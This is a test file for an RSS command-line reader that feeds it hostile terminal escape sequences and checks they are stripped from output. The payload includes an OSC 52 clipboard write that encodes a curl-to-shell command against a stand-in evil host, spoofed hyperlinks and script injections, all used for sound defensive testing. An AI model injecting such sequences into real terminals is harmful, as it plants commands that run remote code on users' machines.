import test from 'ava';
import {runCli} from './helpers/run-cli.js';
import {serveRoutes} from './helpers/servers.js';
import {makeTempEnv} from './helpers/temp-env.js';
import {jsonStrings} from './helpers/json-strings.js';

// Every field of this feed carries escape sequences and controls (checklist §A). None may reach stdout.
const esc = '\u001B';
const nasty = `${esc}[2J${esc}]52;c;Y3VybCBldmlsLnNofHNo\u0007${esc}]0;pwned\u0007\u009B31m\u202E\u200B\u0008\r`;
const hostileFeed = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/">
<channel>
<title>Feed ${nasty} title</title>
<link>https://hostile.example/</link>
<item>
<title>Title ${nasty} &#x1b;[31m &#x9b;2J &#x202E; end</title>
<link>https://hostile.example/post?x=${nasty}</link>
<guid isPermaLink="false">guid-${nasty}</guid>
<dc:creator><![CDATA[Author ${nasty}]]></dc:creator>
<category><![CDATA[Cat ${nasty}]]></category>
<category>Other &#27;[2J</category>
<pubDate>Wed, 25 Nov 2026 22:30:00 +0000</pubDate>
<description><![CDATA[<p>Summary ${nasty} &#x1b;]8;;https://evil.example&#7;click&#x1b;]8;;&#7;</p>]]></description>
<content:encoded><![CDATA[<p>Body ${nasty}</p><script>alert(1)</script><a href="javascript:alert(1)">js</a>]]></content:encoded>
<media:thumbnail url="https://hostile.example/i.jpg${nasty}"/>
</item>
</channel>
</rss>`;

const forbidden = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2028\u2029\u2066-\u2069\uFEFF]/u;

test('escape sequences and controls in every field never reach stdout, raw or decoded', async t => {
	const server = await serveRoutes({'/feed': {headers: {'content-type': 'application/rss+xml'}, body: hostileFeed}});
	const temporary = makeTempEnv();
	try {
		for (const fields of [[], ['--fields', 'id,guid,title,link,author,published,updated,categories,summary,image,feed,content']]) {
			const result = await runCli(['--json', ...fields, '--feed', server.url('/feed')], {env: temporary.env});
			t.is(result.code, 0, result.stderr);
			// The raw bytes: no ESC, no C1, no bidi; JSON escapes would show as \\u sequences instead.
			t.notRegex(result.stdout.replaceAll('\n', ''), forbidden, 'raw stdout');
			const posts = JSON.parse(result.stdout) as unknown[];
			t.is(posts.length, 1);
			for (const text of jsonStrings(posts)) {
				t.notRegex(text.replaceAll('\n', ''), forbidden, JSON.stringify(text));
				t.false(text.includes('alert'), text);
			}
		}

		const plain = await runCli(['--feed', server.url('/feed')], {env: temporary.env});
		t.is(plain.code, 0, plain.stderr);
		t.notRegex(plain.stdout.replaceAll('\n', '').replaceAll('\t', ' '), forbidden);
	} finally {
		temporary.cleanup();
		await server.close();
	}
});
